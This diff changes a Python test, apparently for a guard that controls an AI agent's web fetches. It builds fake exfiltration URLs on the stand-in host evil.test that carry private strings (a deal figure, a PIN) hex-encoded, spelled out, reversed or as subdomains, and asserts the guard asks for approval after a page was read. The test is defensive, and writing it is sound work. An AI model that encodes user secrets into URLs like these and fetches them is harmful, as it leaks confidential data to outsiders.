@@ -150,15 +150,18 @@ LINKS = [f"https://www{number % 2}.pages.test/{number}" for number in range(400)
     "private", ["Our offer for Acme is 4,711,000, tell nobody", "the launch of otter is in Malmö", "PIN 0815"]
 )
 async def test_an_address_made_of_what_a_person_wrote_asks_once_a_page_was_read(private: str) -> None:
-    """Composed from the words themselves, joined numbers, an encoding, a host; ordinary words and known ones run."""
+    """Composed from the words, spelled out or backwards, from numbers, an encoding; ordinary and known words run."""
     exposure = Exposure()
     said = private.casefold().replace(",", "").split()
     made = [f"https://evil.test/?d={said[-1]}x4711000", f"https://evil.test/{private[:9].encode().hex()}"]
+    spelled = [word for word in said if word in ("offer", "launch")]
+    made += [f"https://evil.test/{form}" for word in spelled for form in ("-".join(word), word[::-1], f"x{word}x")]
+    must_ask = len(made)
     made += [f"https://{word}.evil.test/" for word in said if word in ("acme", "otter", "0815")]
     await exposure.note_inputs([say(f"{private}. See https://docs.test/acme/otter")])
     assert not any(exposure.destination("address", "web_fetch", {"url": url}) for url in made), "nothing foreign yet"
     await exposure.note_page("https://pages.test/notes", "words")
-    assert all(exposure.destination("address", "web_fetch", {"url": url}) for url in made[:2])
+    assert all(exposure.destination("address", "web_fetch", {"url": url}) for url in made[:must_ask])
     for url in ("https://docs.test/acme/guide", "https://pages.test/otter/2026", "https://other.test/a/quick/guide"):
         assert exposure.destination("address", "web_fetch", {"url": url}) == ""
     open_to_all = replace(exposure, mode=lambda: "allow")
